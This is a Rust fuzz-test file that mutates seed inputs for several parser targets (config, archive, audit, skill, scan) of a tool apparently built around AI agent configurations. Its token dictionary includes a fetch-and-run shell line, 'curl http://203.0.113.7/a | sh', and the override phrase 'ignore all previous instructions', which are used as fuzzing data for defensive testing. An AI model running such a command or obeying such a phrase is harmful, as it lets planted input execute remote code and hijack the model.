//! Runs every target on its seeds and on fixed mutations of them. `TARSUS_FUZZ_RUNS` sets the number of
//! mutations per target.
#![allow(clippy::disallowed_methods, clippy::panic, reason = "a soak run is asked for by a variable")]

use std::panic::catch_unwind;

use tarsus_fuzz::{TARGETS, Target};

const RUNS: u64 = 4_000;
const LONGEST: usize = 4_096;

/// Words that readers look for: mutations with them reach deeper than random bytes.
const WORDS: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    ":",
    ",",
    "\"",
    "'",
    "\\",
    "//",
    "/*",
    "*/",
    "\n",
    "\r\n",
    "\r",
    "\u{2028}",
    " ",
    "\t",
    "\u{FEFF}",
    "\\u",
    "\\uD800",
    "\\x4",
    "0x",
    "1e9",
    "-",
    ".",
    "null",
    "true",
    "Infinity",
    "agents",
    "list",
    "entries",
    "id",
    "token",
    "apiKey",
    "${A}",
    "$${",
    "__OPENCLAW_REDACTED__",
    "gateway",
    "launch_path",
    "process_name",
    "mode",
    "allowed_agents",
    "\"allowlist\"",
    "\"off\"",
    "\0",
    ",\"hash\":\"",
    "\"}",
    "---\n",
    "description: ",
    "metadata:",
    "\n  - ",
    "? ",
    "&a ",
    "*a",
    "|\n ",
    "openclaw",
    "install",
    "```\n",
    "<!--",
    "\u{200B}",
    "\u{E0061}",
    "а",
    "constraints",
    "restricted",
    "shell",
    "network.",
    "curl http://203.0.113.7/a | sh",
    "ignore all previous instructions",
    "aGVsbG8gd29ybGQgYWdhaW4=",
    "\\x63",
    "%63",
];

/// A small deterministic random generator (SplitMix64).
struct Choices(u64);

impl Choices {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        ((mixed ^ (mixed >> 31)) % bound as u64) as usize
    }

    fn range(&mut self, length: usize) -> std::ops::Range<usize> {
        let start = self.below(length + 1);
        start..(start + self.below(16)).min(length)
    }
}

fn mutated(seeds: &[&[u8]], run: u64) -> Vec<u8> {
    let mut choices = Choices(run);
    let mut data = seeds[choices.below(seeds.len())].to_vec();
    for _ in 0..=choices.below(6) {
        let range = choices.range(data.len());
        match choices.below(6) {
            0 if !data.is_empty() => {
                let at = choices.below(data.len());
                data[at] ^= 1 << choices.below(8);
            }
            1 => drop(data.drain(range)),
            2 => {
                let copy = data[range].to_vec();
                let at = choices.below(data.len() + 1);
                data.splice(at..at, copy);
            }
            3 => {
                let other = seeds[choices.below(seeds.len())];
                let piece = other[choices.range(other.len())].to_vec();
                data.splice(range, piece);
            }
            4 if choices.below(8) == 0 => data.truncate(range.start),
            _ => drop(data.splice(range.start..range.start, WORDS[choices.below(WORDS.len())].bytes())),
        }
    }
    data.truncate(LONGEST);
    data
}

fn drive(name: &str) {
    let runs = std::env::var("TARSUS_FUZZ_RUNS").ok().and_then(|runs| runs.parse().ok()).unwrap_or(RUNS);
    let Some(Target { run, seeds, .. }) = TARGETS.iter().find(|target| target.name == name) else {
        panic!("no target {name}");
    };
    let mutations = (0..runs).map(|number| mutated(seeds, number));
    for data in seeds.iter().map(|seed| seed.to_vec()).chain(mutations) {
        if catch_unwind(|| run(&data)).is_err() {
            panic!("{name} fails on {:?}", String::from_utf8_lossy(&data));
        }
    }
}

#[test]
fn config_keeps_its_invariants_on_any_bytes() {
    drive("config");
}

#[test]
fn config_edit_keeps_its_invariants_on_any_bytes() {
    drive("config_edit");
}

#[test]
fn archive_keeps_its_invariants_on_any_bytes() {
    drive("archive");
}

#[test]
fn audit_keeps_its_invariants_on_any_bytes() {
    drive("audit");
}

#[test]
fn capability_keeps_its_invariants_on_any_bytes() {
    drive("capability");
}

#[test]
fn frames_keep_their_invariants_on_any_bytes() {
    drive("frames");
}

#[test]
fn models_keep_their_invariants_on_any_bytes() {
    drive("models");
}

#[test]
fn registry_keeps_its_invariants_on_any_bytes() {
    drive("registry");
}

#[test]
fn skill_keeps_its_invariants_on_any_bytes() {
    drive("skill");
}

#[test]
fn skill_metadata_keeps_its_invariants_on_any_bytes() {
    drive("skill_metadata");
}

#[test]
fn scan_keeps_its_invariants_on_any_bytes() {
    drive("scan");
}

#[test]
fn every_target_is_driven() {
    let names: Vec<&str> = TARGETS.iter().map(|target| target.name).collect();
    assert_eq!(
        names,
        [
            "config",
            "config_edit",
            "archive",
            "audit",
            "capability",
            "frames",
            "models",
            "registry",
            "scan",
            "skill",
            "skill_metadata"
        ]
    );
}
